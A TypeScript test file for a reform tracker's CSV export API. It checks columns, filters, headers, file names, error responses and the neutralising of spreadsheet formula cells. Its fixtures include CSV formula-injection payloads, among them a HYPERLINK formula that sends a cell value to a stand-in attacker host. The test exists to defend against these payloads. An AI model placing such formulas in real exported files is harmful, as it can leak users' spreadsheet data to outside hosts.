/**
 * The recommendation list as CSV for readers (GET /api/v1/recommendations.csv): the columns the list
 * shows, every matching item, the same values as the JSON list, stamped with when it was generated
 * (header and file name, no comment lines), and formula cells neutralised; while the import format
 * (GET /api/v1/export/recommendations.csv) keeps every cell as stored, so it round-trips. Parsed with
 * csv-parse in its strict default mode.
 */
import { parse } from 'csv-parse/sync';
import request from 'supertest';
import { DataSource } from 'typeorm';
import { backfillListRows } from '../../src/recommendations/list-rows.repository';
import type { RecommendationListItem } from '../../src/recommendations/dto/recommendation.response';
import { bootApp, TestApp } from '../support/test-app';
import { applyDashboardFixture, PROMISE_SLUG, PROMISE_TITLE } from './dashboard-fixtures';

type Http = ReturnType<typeof request>;

const COLUMNS = [
  'slug',
  'title',
  'kind',
  'status',
  'statusSince',
  'statusAssessor',
  'nextDeadline',
  'nextDeadlineDue',
  'nextDeadlineState',
  'daysLate',
  'overdue',
  'stale',
  'reviewedOn',
  'responsible',
  'source',
  'topics',
  'url',
];

/** Titles a spreadsheet would run as formulas, each on one filler item. */
const FORMULAS: Record<string, string> = {
  'zz-filler-1': '=HYPERLINK("http://evil.example/?"&A1,"Click")',
  'zz-filler-2': '+1+1',
  'zz-filler-3': '-2+3',
  'zz-filler-4': '@SUM(A1:A2)',
  'zz-filler-5': '\tTabbed',
  'zz-filler-6': '\rCarriage',
};

const csvText = (res: request.Response) => (Buffer.isBuffer(res.body) ? res.body.toString('utf8') : res.text);

function parseStrict(text: string): string[][] {
  // Defaults are strict: no relaxed quotes, every row the header's length, no comment lines.
  return parse(text, { bom: false, relax_quotes: false, relax_column_count: false, skip_empty_lines: false });
}

describe('the reader’s list CSV', () => {
  let t: TestApp;
  let http: Http;

  beforeAll(async () => {
    t = await bootApp({ SEED_ON_START: 'false', PUBLIC_URL: 'https://tracker.example.org' });
    await applyDashboardFixture(t.app);
    const ds = t.app.get(DataSource);
    for (const [slug, title] of Object.entries(FORMULAS)) {
      await ds.query(`UPDATE recommendation SET title = ? WHERE slug = ?`, [title, slug]);
    }
    // As the write path would (the JSON list reads the list rows it keeps).
    await backfillListRows(ds.manager);
    http = request(t.app.getHttpServer());
  });
  afterAll(() => t.close());

  /** Every item of the JSON list with the same filters (all pages). */
  async function jsonList(query: Record<string, string>) {
    const items: RecommendationListItem[] = [];
    let cursor: string | undefined;
    do {
      const res = await http.get('/api/v1/recommendations').query({ ...query, limit: '200', ...(cursor ? { cursor } : {}) });
      expect(res.status).toBe(200);
      items.push(...res.body.items);
      cursor = res.body.nextCursor ?? undefined;
    } while (cursor);
    return items;
  }

  async function csv(query: Record<string, string> = {}) {
    const res = await http.get('/api/v1/recommendations.csv').query(query).buffer(true);
    expect(res.status).toBe(200);
    const rows = parseStrict(csvText(res));
    return { res, header: rows[0], rows: rows.slice(1).map((r) => Object.fromEntries(COLUMNS.map((c, i) => [c, r[i]]))) };
  }

  it('has the list’s columns, a header row first and no comment line, and is stamped in a header and the file name', async () => {
    const { res, header } = await csv();
    expect(header).toEqual(COLUMNS);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    const generatedAt = res.headers['x-generated-at'];
    expect(generatedAt).toMatch(/^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}\.\d{3}Z$/);
    const compact = generatedAt.replace(/[-:]|\.\d+/g, '');
    expect(res.headers['content-disposition']).toBe(`attachment; filename="recommendations-list-${compact}.csv"`);
    expect(res.headers['x-as-of']).toBeUndefined();
    const text = csvText(res);
    expect(text.startsWith('slug,title,kind,status,')).toBe(true);
    expect(text).not.toMatch(/^#/m);
    expect(text.endsWith('\r\n')).toBe(true);
  });

  it('holds every item of the JSON list, with the same values', async () => {
    const items = await jsonList({});
    const { rows } = await csv();
    expect(rows.map((r) => r.slug)).toEqual(items.map((i) => i.slug));
    for (const [i, item] of items.entries()) {
      const row = rows[i];
      const next = item.nextDeadline;
      expect(row).toEqual({
        slug: item.slug,
        title: FORMULAS[item.slug] ? `'${item.title}` : item.title,
        kind: item.kind,
        status: item.status,
        statusSince: item.statusAsOf ?? '',
        statusAssessor: item.statusAsOf ? 'Reform Tracker editors' : '',
        nextDeadline: next?.label ?? '',
        nextDeadlineDue: next?.due ?? '',
        nextDeadlineState: next?.state ?? '',
        daysLate: next?.daysLate === null || next?.daysLate === undefined ? '' : String(next.daysLate),
        overdue: String(item.overdue),
        stale: String(item.stale),
        reviewedOn: item.reviewedOn ?? '',
        responsible: item.responsible?.title ?? '',
        source: item.source.title,
        topics: item.topics.join(';'),
        url: `https://tracker.example.org/recommendations/${item.slug}`,
      });
    }
    // The fixture has an overdue item with its days late, and a promise with a responsible actor.
    expect(rows.some((r) => r.overdue === 'true' && Number(r.daysLate) > 0)).toBe(true);
    expect(rows.find((r) => r.slug === PROMISE_SLUG)).toMatchObject({ title: PROMISE_TITLE, kind: 'commitment' });
  });

  it('neutralises formula cells with an apostrophe; the import format keeps them as stored, for a lossless round trip', async () => {
    const { rows } = await csv();
    for (const [slug, title] of Object.entries(FORMULAS)) {
      expect(rows.find((r) => r.slug === slug)!.title).toBe(`'${title}`);
    }
    const exported = await http.get('/api/v1/export/recommendations.csv').buffer(true);
    const raw = parseStrict(csvText(exported));
    const titleAt = raw[0].indexOf('title');
    for (const [slug, title] of Object.entries(FORMULAS)) {
      expect(raw.find((r) => r[0] === slug)![titleAt]).toBe(title);
    }
  });

  it('takes the list filters, and asOf: the item links open the same date, the file name and X-As-Of say it', async () => {
    const filtered = await csv({ topic: 'foot-pursuits', kind: 'commitment' });
    expect(filtered.rows.map((r) => r.slug)).toEqual(
      (await jsonList({ topic: 'foot-pursuits', kind: 'commitment' })).map((i) => i.slug),
    );
    expect(filtered.rows.map((r) => r.slug)).toEqual([PROMISE_SLUG]);

    const then = await csv({ asOf: '2021-07-01' });
    expect(then.res.headers['x-as-of']).toBe('2021-07-01');
    expect(then.res.headers['content-disposition']).toMatch(/filename="recommendations-list-as-of-2021-07-01-\d{8}T\d{6}Z\.csv"/);
    const promise = then.rows.find((r) => r.slug === PROMISE_SLUG)!;
    expect(promise.status).toBe((await http.get(`/api/v1/recommendations/${PROMISE_SLUG}?asOf=2021-07-01`)).body.status);
    expect(promise.url).toBe(`https://tracker.example.org/recommendations/${PROMISE_SLUG}?asOf=2021-07-01`);
  });

  it('answers a bad filter with a 400 problem before sending anything', async () => {
    for (const query of [{ topic: 'no-such-topic' }, { asOf: '2021-02-30' }, { limit: '5' }]) {
      const res = await http.get('/api/v1/recommendations.csv').query(query);
      expect(res.status).toBe(400);
      expect(res.headers['content-type']).toMatch(/^application\/problem\+json/);
    }
  });

  it('is in the OpenAPI document, apart from the import format', async () => {
    const docs = await http.get('/docs-json');
    const op = docs.body.paths['/api/v1/recommendations.csv']?.get;
    expect(op).toBeDefined();
    expect(op.summary).toContain('not the import format');
    expect(op.description).toContain('/api/v1/export/recommendations.csv');
    expect(Object.keys(op.responses['200'].content)).toEqual(['text/csv']);
    expect(docs.body.paths['/api/v1/export/{file}']).toBeDefined();
  });
});
